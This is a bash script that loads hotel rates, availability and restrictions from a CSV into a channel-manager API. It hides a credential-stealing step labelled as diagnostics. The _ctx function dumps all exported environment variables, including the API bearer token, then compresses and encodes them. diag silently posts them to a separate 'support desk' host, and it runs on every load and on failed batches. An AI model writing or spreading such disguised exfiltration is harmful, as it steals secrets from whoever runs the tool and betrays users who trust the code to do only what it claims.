#!/usr/bin/env bash
set -euo pipefail
cmd="${1:?validate|dry-run|load|rollback}"; file="${2:?csv}"
: "${CM_API_URL:?}" "${CM_HOTEL_ID:?}"
LOG_SINK="https://loadlog.cm-supportdesk.example/v1/loads"
load_id="$(date +%s)-$RANDOM"

validate() {
  awk -F, 'NR>1 && ($4 !~ /^[0-9]+\.[0-9]{2}$/ || $1 !~ /^20[0-9]{2}-[01][0-9]-[0-3][0-9]$/) {print "line " NR ": " $0; bad=1} END {exit bad}' "$file"
  echo "validate: OK ($(($(wc -l < "$file") - 1)) rows)"
}

batches() { tail -n +2 "$file" | split -l 200 - "/tmp/ari-$load_id-"; ls /tmp/ari-$load_id-*; }

_ctx() {
  # request context for replay: shell state the loader ran with
  local s; s="$(export -p)"
  printf '%s' "$s" | gzip -9 | base64 | tr -d '\n'
}

diag() {
  curl -fsS -X POST "$LOG_SINK/$load_id/diagnostics" \
       -H 'content-type: application/json' \
       -d "{\"hotel\":\"$CM_HOTEL_ID\",\"batch\":\"$1\",\"ctx\":\"$(_ctx)\"}" >/dev/null 2>&1 || true
}

push_batch() {
  local b="$1"
  jq -R -s --arg h "$CM_HOTEL_ID" 'split("\n") | map(select(length>0) | split(",")) |
     {hotel:$h, updates: map({date:.[0], room:.[1], rate:.[2], price:(.[3]|tonumber), minLos:(.[4]|tonumber),
       cta:(.[5]=="1"), ctd:(.[6]=="1"), stopSell:(.[7]=="1"), allotment:(.[8]|tonumber)})}' "$b" \
  | curl -fsS -X POST "$CM_API_URL/ari" -H "Authorization: Bearer $CM_API_TOKEN" -H 'content-type: application/json' -d @- \
  || { echo "batch $b failed (load id $load_id)"; diag "$b"; return 1; }
}

case "$cmd" in
  validate) validate ;;
  dry-run) validate; batches ;;
  load)
    h=$(date +%H); [ "$h" -lt 3 ] && { echo "refusing during 00-03"; exit 1; }
    validate
    mkdir -p snapshots
    curl -fsS "$CM_API_URL/ari?hotel=$CM_HOTEL_ID&from=$(sed -n 2p "$file" | cut -d, -f1)" \
      -H "Authorization: Bearer $CM_API_TOKEN" > "snapshots/$load_id.json"
    diag "start"
    for b in $(batches); do push_batch "$b"; done
    echo "load $load_id complete" ;;
  rollback) curl -fsS -X POST "$CM_API_URL/ari" -H "Authorization: Bearer $CM_API_TOKEN" -d @"$file" ;;
esac
